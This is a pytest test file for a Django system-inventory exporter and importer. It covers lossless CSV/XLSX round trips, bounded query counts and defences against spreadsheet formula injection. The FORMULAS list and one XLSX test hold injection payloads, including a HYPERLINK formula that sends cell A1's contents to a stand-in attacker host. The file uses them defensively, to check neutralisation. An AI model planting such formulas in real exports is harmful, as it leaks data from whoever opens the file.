"""Export writes exactly the import format: importing an export changes nothing; queries do not grow with rows."""

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command

from systems.inventory import exporter
from systems.inventory.importer import Importer
from systems.inventory.readers import Source
from systems.inventory.schema import formula_safe, unescape_cell
from systems.models import System
from tests.factories import SystemContactFactory, SystemFactory, VMFactory

from .conftest import counts, errors

pytestmark = pytest.mark.django_db


def _seed():
    call_command("seed_demo", "--no-users", stdout=io.StringIO())


def test_export_then_import_csv_changes_nothing(tmp_path):
    _seed()
    paths = exporter.export_directory(tmp_path)
    assert [path.name for path in paths] == ["agencies.csv", "waves.csv", "systems.csv", "vms.csv", "contacts.csv"]
    result = Importer().run([Source.from_path(path) for path in paths])
    assert result.ok, errors(result)
    assert all(created == updated == 0 for created, updated, _unchanged in counts(result).values())
    assert counts(result)["systems"] == (0, 0, 392)
    assert counts(result)["vms"] == (0, 0, 1349)


def test_export_then_import_xlsx_changes_nothing(tmp_path):
    _seed()
    [path] = exporter.export_directory(tmp_path, fmt="xlsx")
    assert openpyxl.load_workbook(path, read_only=True).sheetnames == [
        "agencies",
        "waves",
        "systems",
        "vms",
        "contacts",
    ]
    result = Importer().run([Source.from_path(path)])
    assert result.ok, errors(result)
    assert all(created == updated == 0 for created, updated, _unchanged in counts(result).values())


def test_export_into_an_empty_database_recreates_the_inventory(tmp_path, django_db_blocker):
    system = SystemFactory(code="S1", description="Linje 1\nLinje 2; med semikolon, og «anførsel»")
    SystemFactory(code="S2", agency=system.agency).depends_on.add(system)
    VMFactory(system=system, memory_gb="7.25")
    SystemContactFactory(system=system, role="tester")
    before = Path(tmp_path / "before")
    exporter.export_directory(before)
    System.objects.all().delete()
    result = Importer().run([Source.from_path(path) for path in sorted(before.iterdir())])
    assert result.ok, errors(result)
    after = Path(tmp_path / "after")
    exporter.export_directory(after)
    for path in sorted(before.iterdir()):
        assert (after / path.name).read_text() == path.read_text(), path.name


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klikk")', "+47 22 00 00 00", "-1+1", "@SUM(A1)", "'", "'=1"]


def test_formula_safe_prefixes_every_start_a_spreadsheet_runs():
    for start in ("=", "+", "-", "@", "\t", "\r", "'"):
        assert formula_safe(f"{start}x") == f"'{start}x"
        assert unescape_cell(formula_safe(f"{start}x")) == f"{start}x"
    assert formula_safe("Sakarkiv") == "Sakarkiv"
    assert unescape_cell("'Sakarkiv") == "'Sakarkiv", "an apostrophe a user typed stays"


@pytest.mark.parametrize("formula", FORMULAS)
def test_export_csv_neutralises_formulas_and_import_restores_them(tmp_path, formula):
    SystemFactory(code="S1", name=formula, description=f"'{formula}")
    exporter.export_directory(tmp_path)
    header, row = csv.reader(io.StringIO((tmp_path / "systems.csv").read_text()))
    cells = dict(zip(header, row, strict=True))
    assert (cells["name"], cells["description"]) == (f"'{formula}", f"''{formula}")
    System.objects.all().delete()
    result = Importer().run([Source.from_path(path) for path in sorted(tmp_path.iterdir())])
    assert result.ok, errors(result)
    system = System.objects.get(code="S1")
    assert (system.name, system.description) == (formula, f"'{formula}")


def test_export_xlsx_keeps_formula_like_text_as_text_and_numbers_as_numbers(tmp_path):
    system = SystemFactory(code="S1", name='=HYPERLINK("http://evil.example","Klikk")')
    VMFactory(system=system, vcpus=4, memory_gb="7.25")
    [path] = exporter.export_directory(tmp_path, fmt="xlsx")
    workbook = openpyxl.load_workbook(path)
    name = workbook["systems"]["B2"]
    assert (name.data_type, name.value) == ("s", "'" + system.name)
    assert [cell.value for cell in workbook["vms"][2][3:6]] == [4, 7.25, 100]
    result = Importer().run([Source.from_path(path)])
    assert counts(result)["systems"] == (0, 0, 1) and counts(result)["vms"] == (0, 0, 1), errors(result)


def test_export_zip_holds_the_five_csv_files():
    SystemFactory(code="S1")
    stream = io.BytesIO()
    exporter.write_zip(stream)
    archive = zipfile.ZipFile(stream)
    assert archive.namelist() == ["agencies.csv", "waves.csv", "systems.csv", "vms.csv", "contacts.csv"]
    assert archive.read("systems.csv").decode().splitlines()[1].startswith("S1,")


def _inventory(size: int) -> None:
    for number in range(size):
        system = SystemFactory(code=f"S{number:04d}")
        VMFactory(system=system)
        SystemContactFactory(system=system)
        if number:
            system.depends_on.add(System.objects.get(code="S0000"))


@pytest.mark.parametrize("size", [3, 30])
def test_import_and_export_queries_do_not_grow_with_rows(tmp_path, size, django_assert_max_num_queries):
    _inventory(size)
    with django_assert_max_num_queries(12):
        paths = exporter.export_directory(tmp_path)
    sources = [Source.from_path(path) for path in paths]
    with django_assert_max_num_queries(25):
        result = Importer().run(sources)
    assert counts(result)["systems"] == (0, 0, size)
    # And once more into an empty inventory: every row created, still a bounded number of queries.
    System.objects.all().delete()
    with django_assert_max_num_queries(60):
        result = Importer().run(sources)
    assert result.ok, errors(result)
    assert counts(result)["systems"] == (size, 0, 0)
